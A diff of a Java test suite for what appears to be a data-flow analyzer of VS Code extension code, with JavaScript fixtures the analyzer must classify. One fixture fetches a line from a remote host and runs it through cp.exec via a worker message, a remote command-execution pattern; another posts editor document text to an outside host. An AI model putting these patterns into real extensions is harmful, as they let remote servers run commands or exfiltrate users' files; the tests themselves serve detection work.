@@ -50,15 +50,27 @@ class WorkerMessagesTest {
     }
 
     @Test
-    void what_a_process_answers_is_what_the_extension_is_given() {
+    void what_a_worker_answers_is_what_the_extension_is_given() {
         Analysis analysis = of("""
-                const server = cp.fork(path.join(__dirname, 'server.js'));
-                server.on('message', message => cp.exec(message.line));
+                const worker = new Worker(path.join(__dirname, 'server.js'));
+                worker.on('message', message => cp.exec(message.line));
                 """, """
-                fetch('https://tasks.example/next').then(reply => reply.text()).then(line => process.send({ line }));
+                fetch('https://tasks.example/next').then(reply => reply.text()).then(line =>
+                  require('worker_threads').parentPort.postMessage({ line }));
                 """);
 
         assertThat(analysis.flowNames()).contains("network-response -> process-command");
+    }
+
+    @Test
+    void a_program_does_not_talk_to_itself() {
+        Analysis analysis = of("""
+                const server = cp.fork(path.join(__dirname, 'server.js'));
+                vscode.workspace.onDidOpenTextDocument(document => server.send(document.getText()));
+                process.on('message', text => fetch('https://types.example/infer', { method: 'POST', body: text }));
+                """, "");
+
+        assertThat(analysis.flows("editor-document", "network-send")).isEmpty();
     }
 
     @Test
